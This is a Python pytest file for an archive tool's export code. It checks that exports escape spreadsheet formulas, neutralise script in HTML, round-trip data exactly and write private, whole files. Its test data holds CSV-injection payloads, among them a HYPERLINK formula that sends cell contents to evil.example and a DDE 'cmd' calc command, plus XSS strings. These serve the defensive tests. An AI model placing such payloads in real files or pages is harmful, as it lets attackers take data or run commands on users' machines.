"""Exports: what is written can be read back as it was, a spreadsheet runs nothing of it, and a file is whole or not there."""

import csv
import io
import json
import os
import re
import stat
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from small_archive import make, post
from small_archive import reading as document

from ingest.errors import Failed, Usage
from ingest.export import FORMATS, Options, format_of, posts, to_file, to_stream, written
from ingest.search import Filters, Query
from ingest.store.reading import columns_of, reading
from ingest.views import spreadsheet
from ingest.views.codebook import COLUMNS, is_own_export

FORMULAS = ("=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1",
            "\r=1", "\n=1+1", " =1+1", "\uff1d1+1", "\ufeff=1", "@x HYPERLINK(1)", "@x cmd|'/C calc'!A0", "@x+1",
            "@A1:B2", "@x '[a.xls]b'!A1")
HARMLESS = ("hello", "@somebody thanks!", "@somebody", "@some.body and @other: 1+1 = 2", "'=1+1", '"=1+1', "1e5", "007", "a=1", "",
            "a\n=1")


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> str:
    return make(tmp_path_factory.mktemp("export") / "archive.db")


def rows_of(archive: str, **filters: Any) -> list[dict[str, Any]]:
    with reading(archive) as connection:
        return list(posts(connection, Query(sort="key", filters=Filters(**filters)))[1])


def export(archive: str, path: Path, form: str, options: Options | None = None, query: Query | None = None) -> int:
    with reading(archive) as connection:
        return to_file(connection, query or Query(sort="key"), str(path), form, options or Options()).rows


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_neutral(text: str) -> None:
    row = spreadsheet.neutral({"caption": text}, ["caption"])
    assert row == {"caption": "'" + text, "escaped": "caption"}


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_stay(text: str) -> None:
    assert spreadsheet.neutral({"caption": text}, ["caption"])["caption"] == text


cells = st.none() | st.text() | st.sampled_from(FORMULAS) | st.text(alphabet="=+-@'\"\t\r\n, ;a", max_size=6)


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.fixed_dictionaries({
    "public_id": st.text(max_size=5), "kind": st.text(max_size=3), "caption": cells, "place": cells, "author_name": cells,
    "likes": st.none() | st.integers(-(2**63), 2**63 - 1), "sensitive": st.sampled_from((None, 0, 1)),
}), max_size=5))
@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_reading_our_own_csv_back_is_the_identity(delimiter: str, rows: list[dict[str, Any]]) -> None:
    columns = ["public_id", "kind", "caption", "place", "author_name", "likes", "sensitive"]
    out = io.StringIO(newline="")
    assert spreadsheet.write(rows, out, columns, delimiter=delimiter) == len(rows)
    out.seek(0)
    assert list(spreadsheet.read(out, delimiter=delimiter)) == rows
    for cell in (cell for line in csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter) for cell in line[2:5]):
        assert not spreadsheet.is_formula(cell)


def test_a_csv_file_gives_back_the_archive(archive: str, tmp_path: Path) -> None:
    path = tmp_path / "posts.csv"
    assert export(archive, path, "csv") == 4
    with path.open(encoding="utf-8", newline="") as source:
        assert list(spreadsheet.read(source)) == rows_of(archive)
    raw = path.read_bytes()
    assert raw.startswith(b"public_id,platform,kind,native_id,")
    assert re.sub(rb'"[^"]*"', b"", raw).replace(b"\r\n", b"").find(b"\n") < 0


def test_raw_is_verbatim_and_both_have_the_same_rows(tmp_path: Path) -> None:
    captions = enumerate((*FORMULAS, *HARMLESS))
    path = make(tmp_path / "archive.db", [document(*(post(str(900 + at), text) for at, text in captions))])
    export(path, tmp_path / "safe.csv", "csv")
    export(path, tmp_path / "raw.csv", "csv", Options(raw=True))
    found = {}
    for name in ("safe", "raw"):
        with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as source:
            found[name] = {row["native_id"]: row for row in csv.DictReader(source)}
    assert found["safe"].keys() == found["raw"].keys()
    assert all(not spreadsheet.is_formula(row["caption"]) for row in found["safe"].values())
    assert [found["raw"][str(900 + at)]["caption"] for at in range(len(FORMULAS))] == list(FORMULAS)
    assert "escaped" not in found["raw"]["900"]


def test_json_and_lines(archive: str, tmp_path: Path) -> None:
    export(archive, tmp_path / "a.json", "json")
    assert json.loads((tmp_path / "a.json").read_text()) == rows_of(archive)
    export(archive, tmp_path / "a.ndjson", "ndjson", Options(json_cols=True))
    lines = [json.loads(line) for line in (tmp_path / "a.ndjson").read_text().splitlines()]
    assert lines[0]["hashtags"] == ["FirstSteps", "Baby"]
    assert all(isinstance(line["native_id"], str) for line in lines)


def test_the_same_filters(archive: str, tmp_path: Path) -> None:
    query = Query(words=("count",), filters=Filters(platform=("twitter",)), sort="likes", limit=1)
    assert export(archive, tmp_path / "a.ndjson", "ndjson", query=query) == 1


def test_a_workbook_holds_text_as_text(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    path = make(tmp_path / "archive.db", [document(post("1267000000000000001", "=1+1"), post("2", "a\x1bb" + "x" * 40_000))])
    with reading(path) as connection:
        exported = to_file(connection, Query(sort="key"), str(tmp_path / "a.xlsx"), "xlsx", Options())
    assert exported.rows == 2
    assert "cut" in exported.notes[0]
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["posts"]
    header = [cell.value for cell in sheet[1]]
    first = dict(zip(header, sheet[2], strict=True))
    assert (first["native_id"].value, first["native_id"].data_type) == ("1267000000000000001", "s")
    assert (first["caption"].value, first["caption"].data_type) == ("=1+1", "s")


def test_parquet_or_how_to_get_it(archive: str, tmp_path: Path) -> None:
    try:
        from pyarrow import parquet
    except ImportError:
        with pytest.raises(Failed, match="pip install"):
            export(archive, tmp_path / "a.parquet", "parquet")
        assert not list(tmp_path.iterdir())
        return
    export(archive, tmp_path / "a.parquet", "parquet")
    assert parquet.read_table(tmp_path / "a.parquet").to_pylist() == rows_of(archive)


def test_a_page_runs_nothing(tmp_path: Path) -> None:
    attacks = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</style><style>*{background:url(//evil.example)}",
               "</title></textarea>", "\u202egnp.exe")
    path = make(tmp_path / "archive.db", [document(*(post(str(n + 1), text) for n, text in enumerate(attacks)))])
    export(path, tmp_path / "a.html", "html", Options(title="<b>&"))
    text = (tmp_path / "a.html").read_text()
    assert "default-src 'none'" in text
    for tag in ("<script", "<img", "<b>", "\u202e"):
        assert tag not in text
    assert text.count("<style") == 1
    assert "&lt;script&gt;alert(1)" in text


def test_files_are_private_and_whole(archive: str, tmp_path: Path) -> None:
    old = os.umask(0)
    try:
        export(archive, tmp_path / "a.csv", "csv")
    finally:
        os.umask(old)
    names = sorted(one.name for one in tmp_path.iterdir())
    assert names == ["a.codebook.csv", "a.csv"]
    assert all(stat.S_IMODE(one.stat().st_mode) == 0o600 for one in tmp_path.iterdir())
    with pytest.raises(ZeroDivisionError):
        fail_half_way(tmp_path / "a.csv")
    assert sorted(one.name for one in tmp_path.iterdir()) == names
    assert (tmp_path / "a.csv").read_text().startswith("public_id")


def fail_half_way(path: Path) -> None:
    with written(str(path)) as part:
        Path(part).write_text("half")
        raise ZeroDivisionError


def test_what_cannot_be_written(archive: str, tmp_path: Path) -> None:
    with pytest.raises(Failed, match="cannot be written"):
        export(archive, tmp_path / "none" / "a.csv", "csv")
    with pytest.raises(Usage, match="folder"):
        export(archive, tmp_path, "csv")
    with pytest.raises(Usage, match="archive itself"):
        export(archive, Path(archive), "csv")
    with reading(archive) as connection, pytest.raises(Usage):
        to_stream(connection, Query(), io.StringIO(), "xlsx", Options())


def test_our_own_exports_are_known(archive: str, tmp_path: Path) -> None:
    for form in ("csv", "tsv", "json", "ndjson", "html"):
        for raw in (False, True):
            export(archive, tmp_path / f"a.{form}", form, Options(raw=raw))
            assert is_own_export((tmp_path / f"a.{form}").read_bytes()[:600])
    assert is_own_export((tmp_path / "a.codebook.csv").read_bytes()[:600])
    assert not is_own_export(b"id,text\r\n1,public_id")


def test_the_suffix_says_the_format() -> None:
    suffixes = ("CSV", "jsonl", "nl", "htm", *FORMATS)
    assert [format_of(f"a.{suffix}") for suffix in suffixes] == ["csv", "ndjson", "ndjson", "html", *FORMATS]
    for name in ("a", "a.doc", "a.db"):
        with pytest.raises(Usage, match="--format"):
            format_of(name)


def test_the_codebook_knows_every_column(archive: str, tmp_path: Path) -> None:
    with reading(archive) as connection:
        assert columns_of(connection) == [column.name for column in COLUMNS if column.name != "escaped"]
    export(archive, tmp_path / "a.csv", "csv")
    with (tmp_path / "a.codebook.csv").open(newline="") as source:
        book = list(csv.DictReader(source))
    with (tmp_path / "a.csv").open(newline="") as source:
        assert [row["column"] for row in book] == next(csv.reader(source))
    assert all(row["meaning"] for row in book)
